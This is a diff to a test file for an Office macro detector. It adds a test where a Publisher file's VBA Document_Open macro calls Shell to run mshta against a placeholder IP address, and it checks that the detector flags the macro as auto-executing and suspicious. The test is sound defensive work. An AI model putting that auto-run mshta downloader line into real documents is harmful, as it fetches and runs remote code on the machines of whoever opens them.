@@ -116,3 +116,14 @@ def test_truncated_package_with_vba_member_is_handled():
     data = docx(macro=EMOTET_LIKE_MODULES)
     findings = office_findings(DETECTOR, [("cut.docm", data[: len(data) // 2])])
     assert symbols_of(findings) == {"OFFICE_UNPARSEABLE"}
+
+
+def test_publisher_document_macro_that_runs_on_open_is_flagged():
+    # Publisher keeps its VBA project at the root of the compound file, beside its Quill contents.
+    from tests.builders_office import ole_file, vba_storage
+
+    streams = {"Quill/QuillSub/CONTENTS": b"\0" * 512, "Contents": b"\0" * 512}
+    streams.update(vba_storage({"ThisDocument": "Private Sub Document_Open()\n  Shell \"mshta http://198.51.100.4/p\"\nEnd Sub\n"},
+                               "", host_module="ThisDocument"))
+    findings = office_findings([OfficeMacros()], [("チラシ.pub", ole_file(streams))])
+    assert {"MACRO_PRESENT", "MACRO_AUTOEXEC", "MACRO_SUSPICIOUS"} <= symbols_of(findings)
